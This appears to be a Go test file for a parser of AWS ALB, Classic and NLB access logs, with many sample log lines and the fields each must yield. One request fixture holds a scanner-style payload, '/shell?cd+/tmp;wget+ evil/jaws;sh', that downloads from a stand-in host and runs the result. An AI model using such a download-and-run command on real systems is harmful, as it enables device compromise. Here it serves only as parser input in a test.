package elblog

import (
	"fmt"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// One field a row, so that a test can say which it changes.
var (
	albFields = []string{
		"https", "2026-11-20T01:02:03.186641Z", "app/web/50dc6c495c0c9188", "198.51.100.131:52817", "10.0.14.66:8080",
		"0.001", "0.048", "0.000", "200", "201", "341", "1366",
		`"GET https://api.example.com:443/hoge/123?a=b HTTP/1.1"`, `"curl/8.9.1"`, "ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2",
		"arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/73e2d6bc24d8a067",
		`"Root=1-58337262-36d228ad5d99923122bbe354"`, `"api.example.com"`, `"session-reused"`, "0", "2026-11-20T01:02:03.137000Z",
		`"waf,forward"`, `"-"`, `"-"`, // 25, until 2019
		`"10.0.14.66:8080"`, `"201"`, `"-"`, `"-"`, // 29
		"TID_1234abcd5678ef90", `"-"`, `"-"`, `"-"`, "10.0.1.7", // 34
	}
	clbFields = []string{
		"2026-11-20T01:02:03.186641Z", "web", "198.51.100.131:52817", "10.0.14.66:80", "0.000073", "0.001048", "0.000057",
		"200", "201", "0", "29", `"GET http://www.example.com:80/hoge/123 HTTP/1.1"`, `"curl/8.9.1"`, "-", "-",
	}
	nlbFields = []string{
		"tls", "2.0", "2026-11-20T01:02:03", "net/sip/c6e77e28c25b2234", "g3d4b5e8bb8464cd", "198.51.100.131:51341",
		"10.0.14.66:443", "5", "2", "98", "246", "-", "arn:aws:acm:us-east-1:123456789012:certificate/2a108f19", "-",
		"ECDHE-RSA-AES128-SHA", "tlsv12", "-", "sip.example.com", "h2", "h2", `"h2","http/1.1"`, "2026-11-20T01:02:01",
	}
)

// with returns a line of the fields, some of them replaced: "13=x" makes the 13th x.
func with(fields []string, changes ...string) string {
	fields = append([]string(nil), fields...)
	for _, c := range changes {
		n, v, _ := strings.Cut(c, "=")
		i, _ := strconv.Atoi(n)
		fields[i-1] = v
	}
	return strings.Join(fields, " ")
}

// logged lets differences show the fields of Entry that nobody sees from outside.
var logged = cmp.AllowUnexported(Entry{})

func alb(changes ...string) string { return with(albFields, changes...) }
func clb(changes ...string) string { return with(clbFields, changes...) }
func nlb(changes ...string) string { return with(nlbFields, changes...) }

func TestParseLineWhole(t *testing.T) {
	b := func(s string) []byte { return []byte(s) }
	for _, row := range []struct {
		line string
		want Entry
	}{
		{alb(), Entry{
			Format: ALB, Type: b("https"), Timestamp: b("2026-11-20T01:02:03.186641Z"), Time: 1795136523186641000,
			LoadBalancer: b("app/web/50dc6c495c0c9188"), Client: b("198.51.100.131:52817"), Target: b("10.0.14.66:8080"),
			RequestProcessingTime: time.Millisecond, TargetProcessingTime: 48 * time.Millisecond, ResponseProcessingTime: 0,
			ELBStatusCode: 200, TargetStatusCode: 201,
			Request: b("GET https://api.example.com:443/hoge/123?a=b HTTP/1.1"), Method: b("GET"),
			URL: b("https://api.example.com:443/hoge/123?a=b"), Protocol: b("HTTP/1.1"), Host: b("api.example.com"), Path: b("/hoge/123?a=b"),
			UserAgent: b("curl/8.9.1"), TargetGroupARN: b("arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/73e2d6bc24d8a067"),
			DomainName: b("api.example.com"), RequestCreationTime: b("2026-11-20T01:02:03.137000Z"), ActionsExecuted: b("waf,forward"), ErrorReason: b("-"),
		}},
		{clb(), Entry{
			Format: CLB, Timestamp: b("2026-11-20T01:02:03.186641Z"), Time: 1795136523186641000,
			LoadBalancer: b("web"), Client: b("198.51.100.131:52817"), Target: b("10.0.14.66:80"),
			RequestProcessingTime: 73 * time.Microsecond, TargetProcessingTime: 1048 * time.Microsecond, ResponseProcessingTime: 57 * time.Microsecond,
			ELBStatusCode: 200, TargetStatusCode: 201,
			Request: b("GET http://www.example.com:80/hoge/123 HTTP/1.1"), Method: b("GET"), URL: b("http://www.example.com:80/hoge/123"),
			Protocol: b("HTTP/1.1"), Host: b("www.example.com"), Path: b("/hoge/123"), UserAgent: b("curl/8.9.1"),
		}},
		{nlb(), Entry{
			Format: NLB, Type: b("tls"), Timestamp: b("2026-11-20T01:02:03"), Time: 1795136523000000000,
			LoadBalancer: b("net/sip/c6e77e28c25b2234"), Client: b("198.51.100.131:51341"), Target: b("10.0.14.66:443"),
			RequestProcessingTime: NotMeasured, TargetProcessingTime: NotMeasured, ResponseProcessingTime: NotMeasured,
			ELBStatusCode: NoStatus, TargetStatusCode: NoStatus,
			DomainName: b("sip.example.com"), RequestCreationTime: b("2026-11-20T01:02:01"),
		}},
	} {
		var e Entry
		if why := parseLine(b(row.line), &e, nil); why != 0 {
			t.Errorf("%s\nmalformed: %v", row.line, why)
			continue
		}
		if diff := cmp.Diff(row.want, e, cmpopts.IgnoreUnexported(Entry{})); diff != "" {
			t.Errorf("%s\n-want +got\n%s", row.line, diff)
		}
	}
}

// oddities are lines as load balancers have been seen to write them, and what they must be read as: fields of Entry and
// results of its methods, <nil> being absence, or the reason why the line is none.
var oddities = []struct{ line, want string }{
	// Types, and what tells the formats apart.
	{alb("1=http"), "Format=alb|Type=http"},
	{alb("1=h2"), "Format=alb|Type=h2"},
	{alb("1=grpcs", `13="POST https://grpc.example.com:443/pb.Hoge/Get HTTP/2.0"`), "Type=grpcs|Method=POST|Path=/pb.Hoge/Get"},
	{alb("1=ws", "9=101", `13="GET http://h:80/socket HTTP/1.1"`), "Type=ws|ELBStatusCode=101|Path=/socket"},
	{alb("1=wss", "9=101"), "Type=wss|ELBStatusCode=101"},
	{alb("1=h3"), "Format=alb|Type=h3"},
	{alb("1=tls"), "Format=alb|Type=tls"},
	{alb("1=HTTP"), "format"},
	{alb("1=" + strings.Repeat("a", 17)), "format"},
	{alb("1=-"), "format"},
	{alb("1=httpstwo"), "Format=alb|Type=httpstwo"},
	{strings.Replace(alb("1=httpstwo"), " ", `"`, 1), "format"}, // eight letters of a type, and then no space
	{strings.Replace(alb("1=httpstwo"), " ", "s", 1), "format"},
	{" " + alb(), "format"},
	{"Enable AccessLog for ELB: web at 2026-11-20T01:02:03.186Z", "format"},
	{"just some text", "format"},
	{"\x00\x00\x00\x00", "format"},
	{"", "empty"},
	// Fields without a place in Entry, by the names of AWS's record fields.
	{alb(), "type=https|time=2026-11-20T01:02:03.186641Z|client_port=198.51.100.131:52817|received_bytes=341|ReceivedBytes=341|SentBytes=1366"},
	{alb(), "ssl_cipher=ECDHE-RSA-AES128-GCM-SHA256|ssl_protocol=TLSv1.2|trace_id=Root=1-58337262-36d228ad5d99923122bbe354"},
	{alb(`24="https://example.com:443/"`, `28="Ambiguous"`, `29="UndefinedContentLengthSemantics"`), "redirect_url=https://example.com:443/|classification=Ambiguous|classification_reason=UndefinedContentLengthSemantics"},
	{alb(), "conn_trace_id=TID_1234abcd5678ef90|ip_address=10.0.1.7|target_error_code=<nil>|elb_error_code=<nil>|listener=<nil>"},
	{alb("11=-", "12=1x"), "received_bytes=-|ReceivedBytes=<nil>|SentBytes=<nil>"},
	{alb("11=1234567890123456789"), "ReceivedBytes=<nil>"},
	// Lines of 36 fields, and the first of any longer ones.
	{alb() + ` "ConnectionReset" -`, "target_error_code=ConnectionReset|elb_error_code=-|ip_address=10.0.1.7|ELBStatusCode=200"},
	{alb() + ` - TargetConnectionError "more" open"`, "target_error_code=-|elb_error_code=TargetConnectionError"},
	{strings.Join(albFields[:25], " "), "error_reason=-|classification=<nil>|redirect_url=-"},
	{strings.Join(albFields[:22], " "), "actions_executed=<nil>|redirect_url=<nil>|request_creation_time=2026-11-20T01:02:03.137000Z"},
	{clb(), "elb=web|target_port=10.0.14.66:80|sent_bytes=29|SentBytes=29|ssl_protocol=-|redirect_url=<nil>|type=<nil>"},
	{strings.Join(clbFields[:12], " "), "user_agent=<nil>|request_line=GET http://www.example.com:80/hoge/123 HTTP/1.1"},
	{nlb(), `version=2.0|listener=g3d4b5e8bb8464cd|tls_handshake_time=2|ssl_protocol=tlsv12|alpn_client_preference_list=h2","http/1.1|request_line=<nil>`},
	// Times, statuses, sizes.
	{alb("2=2026-11-20T01:02:03Z"), "Time=1795136523000000000"},
	{alb("2=2026-11-20T01:02:03.5"), "Time=1795136523500000000"},
	{alb("2=2026-11-31T01:02:03.186641Z"), "time"},
	{alb("2=2026-11-20T01:02:03.18664xZ"), "time"},
	{alb("2=2026-11-20T01:02:03.186641Zx"), "time"},
	{strings.Replace(alb(), "641Z ", "641Z\t", 1), "time"},
	{alb("2=-"), "format"},
	{alb("6=-1", "7=-1", "8=-1"), "RequestProcessingTime=-1ns|TargetProcessingTime=-1ns|ResponseProcessingTime=-1ns"},
	{alb("6=-", "7=-", "8=-"), "RequestProcessingTime=-1ns|TargetProcessingTime=-1ns|ResponseProcessingTime=-1ns"},
	{alb("6=-1.000", "7=12", "8=0.000000001"), "RequestProcessingTime=-1ns|TargetProcessingTime=12s|ResponseProcessingTime=1ns"},
	{alb("6=3600.123456789", "7=0.1234567899", "8=10.001"), "RequestProcessingTime=1h0m0.123456789s|TargetProcessingTime=123.456789ms|ResponseProcessingTime=10.001s"},
	{alb("7=0.1x8"), "time"},
	{alb("7=1e3"), "time"},
	{alb("6=x"), "time"},
	{alb("8=x"), "time"},
	{alb("7=x.048"), "time"},
	{alb("7=0x048"), "time"},
	{alb("7=0.x48"), "time"},
	{alb("7=0.0x8"), "time"},
	{alb("7=0.04x"), "time"},
	{alb("7="), "time"},
	{alb("7=1."), "time"},
	{alb("7=.5"), "time"},
	{alb("7=--1"), "time"},
	{alb("7=-x"), "time"},
	{alb("7=1234567890"), "time"},
	{alb("9=-", "10=-"), "ELBStatusCode=-1|TargetStatusCode=-1"},
	{alb("9=000", "10=-"), "ELBStatusCode=0"},
	{alb("9=460", "10=-"), "ELBStatusCode=460"},
	{alb("9=561", "10=99"), "ELBStatusCode=561|TargetStatusCode=99"},
	{alb("9=2000"), "status"},
	{alb("9=2x0"), "status"},
	{alb("9=20x"), "status"},
	{alb("10=ok"), "status"},
	{alb("10=2000"), "status"},
	{alb("10="), "status"},
	{alb("3=-"), "load-balancer"},
	{alb("3="), "load-balancer"},
	{alb("11=-", "12=-"), "ELBStatusCode=200"},
	// Requests.
	{alb(`13="- http://host:80- -"`), "Method=-|URL=http://host:80-|Host=host|Path=-|Protocol=-"},
	{alb(`13="- http://host:80- "`), "Method=-|URL=http://host:80-|Host=host|Path=-|Protocol=<nil>"},
	{alb(`13="- - -"`), "Method=-|URL=-|Path=-|Protocol=-|Host=<nil>"},
	{alb(`13="-"`), "Method=-|URL=<nil>|Path=<nil>|Protocol=<nil>"},
	{alb(`13=""`), "Request=|Method=|URL=<nil>|Path=<nil>"},
	{alb(`13="GET http://h:80/a HTTP/1.0 "`), "URL=http://h:80/a|Path=/a|Protocol=HTTP/1.0"},
	{alb(`13="GET http://h:80/shell?cd+/tmp;wget+ evil/jaws;sh HTTP/1.1"`), "Path=/shell?cd+/tmp;wget+ evil/jaws;sh|Protocol=HTTP/1.1"},
	{alb(`13="GET http://h:80/a  b HTTP/1.1"`), "Path=/a  b"},
	{alb(`13="SSTP_DUPLEX_POST https://h:443/sra_{BA195980}/ HTTP/1.1"`), "Method=SSTP_DUPLEX_POST|Path=/sra_{BA195980}/"},
	{alb(`13="--location http://h:80/ HTTP/1.1"`), "Method=--location|Path=/"},
	{alb(`13="GET /hoge/123?a=http://b/c HTTP/1.1"`), "Host=<nil>|Path=/hoge/123?a=http://b/c"},
	{alb(`13="GET hoge?a=http://b/c HTTP/1.1"`), "Host=<nil>|Path=hoge?a=http://b/c"},
	{alb(`13="GET //h/a HTTP/1.1"`), "Host=<nil>|Path=//h/a"},
	{alb(`13="GET ://h/a HTTP/1.1"`), "Host=<nil>|Path=://h/a"},
	{alb(`13="GET http:/h HTTP/1.1"`), "Host=<nil>|Path=http:/h"},
	{alb(`13="GET http:/"`), "Host=<nil>|Path=http:/"},
	{alb(`13="GET http://h:80 HTTP/1.1"`), "Host=h|Path=/"},
	{alb(`13="GET http://h HTTP/1.1"`), "Host=h|Path=/"},
	{alb(`13="GET http://h:80?a=/b HTTP/1.1"`), "Host=h|Path=/"},
	{alb(`13="GET http://h#a HTTP/1.1"`), "Host=h|Path=/"},
	{alb(`13="GET http:// HTTP/1.1"`), "Host=|Path=/"},
	{alb(`13="GET http://h-/a- HTTP/1.1"`), "Host=h-|Path=/a-"},
	{alb(`13="GET http:///a HTTP/1.1"`), "Host=|Path=/a"},
	{alb(`13="GET http://[2001:db8::1]:443/a HTTP/1.1"`), "Host=[2001:db8::1]|Path=/a"},
	{alb(`13="GET http://[2001:db8::1]/a HTTP/1.1"`), "Host=[2001:db8::1]|Path=/a"},
	{alb(`13="GET http://2001:db8::1:443/a HTTP/1.1"`), "Host=2001:db8::1|Path=/a"},
	{alb(`13="GET http://u:p@x@h:80/a@b HTTP/1.1"`), "Host=h|Path=/a@b"},
	{alb(`13="CONNECT host:443 HTTP/1.1"`), "Method=CONNECT|Host=host|Path=host:443"},
	{alb(`13="CONNECT http://host:443- HTTP/1.1"`), "Method=CONNECT|Host=host|Path=-"},
	{alb(`13="OPTIONS * HTTP/1.1"`), "Method=OPTIONS|Host=<nil>|Path=*"},
	{alb(`13="GET http://h:80/%2e%2e/x#f HTTP/1.1"`), "Path=/%2e%2e/x#f"},
	{alb(`13=-`), "Request=-|Method=-"},
	// Escapes.
	{alb(`14="say \x22hi\x22 \x5c"`), `UserAgent=say \x22hi\x22 \x5c|ELBStatusCode=200|DomainName=api.example.com`},
	{alb(`14="say \"hi\" there"`), `UserAgent=say \"hi\" there|DomainName=api.example.com`},
	{alb(`14="\"hi\""`), `UserAgent=\"hi\"|DomainName=api.example.com`},
	{alb(`14="C:\\"`), `UserAgent=C:\\|DomainName=api.example.com`},
	{alb(`14="C:\\\" x"`), `UserAgent=C:\\\" x|DomainName=api.example.com`},
	{clb(`13="say "hi" there"`), `UserAgent=say "hi`},
	{alb(`14="a"b"`), `UserAgent=a"b|DomainName=api.example.com`},
	{alb(`14="\xC3\x88 \x000000e3"`), `UserAgent=\xC3\x88 \x000000e3`},
	{alb("14=\"\xc3\x28\x00\""), "UserAgent=\xc3\x28\x00"},
	{alb(`14=""`), "UserAgent="},
	// Addresses.
	{alb("4=2001:db8::1:443", "5=2001:db8::2:8080"), "Client=2001:db8::1:443|ClientAddr=2001:db8::1|Target=2001:db8::2:8080"},
	{alb("4=[2001:db8::1]:443", "5=[2001:db8::2]:8080"), "Client=[2001:db8::1]:443|ClientAddr=2001:db8::1|TargetAddr=2001:db8::2"},
	{alb("4=[2001:db8::1]"), "ClientAddr=2001:db8::1"},
	{alb("4=[]:443"), "ClientAddr=[]"},
	{alb("4=-"), "Client=-|ClientAddr=-|TargetAddr=10.0.14.66"},
	{alb("5=-", "10=-"), "Target=-|ReachedTarget=false"},
	{alb("5=-", "10=200"), "ReachedTarget=true"},
	{alb("5=10.0.0.1:80", "10=-"), "ReachedTarget=true"},
	{alb("5=-", "10=-", `25="LambdaUnhandled"`), "ReachedTarget=true|ErrorReason=LambdaUnhandled"},
	{alb("5=-", "10=-", `25="WAFServiceError"`), "ReachedTarget=false"},
	{alb("6=-1", "7=-1", "8=-1", "9=504", "10=-"), "ELBStatusCode=504|Target=10.0.14.66:8080|ReachedTarget=true"},
	{alb(`19=" api.example.com"`), "DomainName=api.example.com"},
	{alb(`19="-"`), "DomainName=-|Domain=-"},
	{alb(`19="api.example.com."`), "DomainName=api.example.com.|Domain=api.example.com"},
	{alb(`19="api.example.com:443"`), "DomainName=api.example.com:443|Domain=api.example.com"},
	{alb(`19=" api.example.com.:443 "`), "Domain=api.example.com"},
	{alb(`19="2001:db8::443"`), "Domain=2001:db8::443"},
	{alb(`19="api.example.com:"`), "Domain=api.example.com:"},
	{alb(`19="api.example.com:https"`), "Domain=api.example.com:https"},
	{alb(`19="."`), "Domain="},
	// Actions, and the time of creation.
	{alb(`23="waf"`), "LastAction=waf"},
	{alb(), "LastAction=forward"},
	{alb(`23="waf,authenticate,forward"`), "LastAction=forward"},
	{alb(`23="-"`), "ActionsExecuted=-|LastAction=<nil>"},
	{alb(`23=""`), "ActionsExecuted=|LastAction=<nil>"},
	{alb("23=waf"), "LastAction=waf"},
	{alb(`23="forward,"`), "LastAction=<nil>"},
	{alb("22=2026-11-20T01:01:48.186641Z"), "Elapsed=15s"},
	{alb("22=2026-11-20T01:02:04.186641Z"), "Elapsed=-1s"},
	{alb("22=-"), "RequestCreationTime=-|Elapsed=<nil>"},
	{with(albFields[:22]), "Elapsed=49.641ms|ActionsExecuted=<nil>|LastAction=<nil>|ErrorReason=<nil>"},
	{with(albFields[:23]), "ActionsExecuted=waf,forward|ErrorReason=<nil>"},
	{with(albFields[:24]), "ActionsExecuted=waf,forward|ErrorReason=<nil>"},
	{with(albFields[:25]), "ActionsExecuted=waf,forward|ErrorReason=-"},
	{with(albFields[:29]), "ErrorReason=-"},
	{with(albFields[:30]), "ErrorReason=-"},
	{with(albFields[:33]), "ErrorReason=-"},
	{alb() + " x \"y z\" \"open", "ErrorReason=-"},
	{with(albFields[:21]), "fields"},
	{with(albFields[:21]) + " ", "fields"},
	{with(albFields[:22]) + " \"waf", "fields"},
	{"https", "format"},
	{"https ", "format"},
	{"https 2026-11-20T01:02:03.186641Z", "fields"},
	{with(albFields[:12]) + ` "GET http://h:80/ HTTP/1.1`, "fields"},
	// Classic.
	{with(clbFields[:12]), "Format=clb|Path=/hoge/123|UserAgent=<nil>"},
	{with(clbFields[:13]), "UserAgent=curl/8.9.1"},
	{with(clbFields[:11]), "fields"},
	{clb("8=-", "9=-", `12="- - - "`, `13="-"`), "ELBStatusCode=-1|TargetStatusCode=-1|Method=-|URL=-|Protocol=-|Path=-|UserAgent=-"},
	{clb("4=-", "5=-1", "6=-1", "7=-1", "8=503", "9=0"), "ELBStatusCode=503|TargetStatusCode=0|ReachedTarget=false"},
	{clb("4=-", "5=-1", "6=-1", "7=-1", "8=504", "9=0"), "ELBStatusCode=504|ReachedTarget=false"},
	{clb("4=10.0.0.1:80", "5=-1", "6=-1", "7=-1", "8=503", "9=0"), "ReachedTarget=true"},
	{clb("4=-", "9=200"), "ReachedTarget=true"},
	{clb("4=-", "8=503", "9=-"), "ReachedTarget=false|Elapsed=<nil>|LastAction=<nil>|Type=<nil>"},
	{clb("3=2001:db8::1:443"), "ClientAddr=2001:db8::1"},
	{clb("3=198.51.100.131"), "client"},
	{clb("1=2026-11-20"), "format"},
	{"2026-11-20T01:02:03.186641Z web", "fields"},
	{clb("1=2026-13-20T01:02:03.186641Z"), "time"},
	{clb("2=-"), "load-balancer"},
	{clb(`13="\"research\""`), `UserAgent=\"research\"`},
	{clb(`13="ends in \"`), `UserAgent=ends in \`},
	{with(clbFields[:12]) + ` "Mozilla/5.0 Chrome/57`, "Path=/hoge/123|UserAgent=Mozilla/5.0 Chrome/57"},
	{`    Safari/537.36`, "format"},
	{`" - -`, "format"},
	{with(clbFields) + ` more "fields`, "UserAgent=curl/8.9.1"},
	// Connection and health check logs.
	{`2026-11-20T01:02:03.186641Z 198.51.100.131 36280 443 TLSv1.3 TLS_AES_128_GCM_SHA256 4.036 "CN=a,O=b" NotBefore=2026-01-01T00:00:00Z;NotAfter=2027-01-01T00:00:00Z 0fef Success TID_1`, "client"},
	{`2026-11-20T01:02:03.186641Z 2001:db8::1 36280 443 - - - "-" - - - TID_1 - - - - -`, "client"},
	{`http 2026-11-20T01:02:03.186641Z 0.002 10.0.0.1:80 web/73e2d6bc24d8a067 PASS 200 -`, "fields"},
	// NLB.
	{nlb("9=-", "15=-", "16=-"), "Format=nlb|ELBStatusCode=-1|Client=198.51.100.131:51341"},
	{nlb("3=2026-11-20T01:02:03.25Z"), "Time=1795136523250000000|Elapsed=2.25s"},
	{nlb("3=2026-11-20T99:02:03"), "time"},
	{nlb("3=-"), "format"},
	{nlb("4=-"), "load-balancer"},
	{nlb("7=-"), "Target=-|ReachedTarget=false"},
	{nlb("21=-"), "Elapsed=2s"},
	{nlb() + " more", "Elapsed=2s"},
	{with(nlbFields[:21]), "fields"},
	{"tls 2.0", "format"},
}

func TestParseLineOddities(t *testing.T) {
	for _, row := range oddities {
		if got := describe(row.line, row.want); got != row.want {
			t.Errorf("%q\ngot  %s\nwant %s", row.line, got, row.want)
		}
	}
}

// describe returns the fields and methods of the line's entry that want names, in its form.
func describe(line, want string) string {
	var e Entry
	return describeEntry(&e, parseLine([]byte(line), &e, nil), want)
}

func describeEntry(e *Entry, why Reason, want string) string {
	if why != 0 {
		return why.String()
	}
	var got []string
	for _, w := range strings.Split(want, "|") {
		name, _, isField := strings.Cut(w, "=")
		if !isField {
			return "an entry"
		}
		got = append(got, name+"="+valueOf(e, name))
	}
	return strings.Join(got, "|")
}

func valueOf(e *Entry, name string) string {
	var v any
	switch name {
	case "ClientAddr":
		v = e.ClientAddr()
	case "TargetAddr":
		v = e.TargetAddr()
	case "Domain":
		v = e.Domain()
	case "LastAction":
		v = e.LastAction()
	case "ReachedTarget":
		v = e.ReachedTarget()
	case "Elapsed":
		d, ok := e.Elapsed()
		if !ok {
			return "<nil>"
		}
		v = d
	case "ReceivedBytes", "SentBytes":
		n, ok := map[string]func() (int64, bool){"ReceivedBytes": e.ReceivedBytes, "SentBytes": e.SentBytes}[name]()
		if !ok {
			return "<nil>"
		}
		v = n
	default:
		if i := slices.Index(fieldNames[:], name); i >= 0 {
			v = e.Field(Field(i))
			break
		}
		v = reflect.ValueOf(*e).FieldByName(name).Interface()
	}
	if b, ok := v.([]byte); ok {
		if b == nil {
			return "<nil>"
		}
		return string(b)
	}
	return fmt.Sprint(v)
}

func TestReasonString(t *testing.T) {
	seen := map[string]bool{}
	for r := Reason(1); int(r) < Reasons; r++ {
		if s := r.String(); s == "" || seen[s] {
			t.Errorf("reason %d is %q", r, s)
		} else {
			seen[s] = true
		}
	}
	if got := Reason(0).String(); got != "" {
		t.Errorf("reason 0 is %q, want none", got)
	}
}
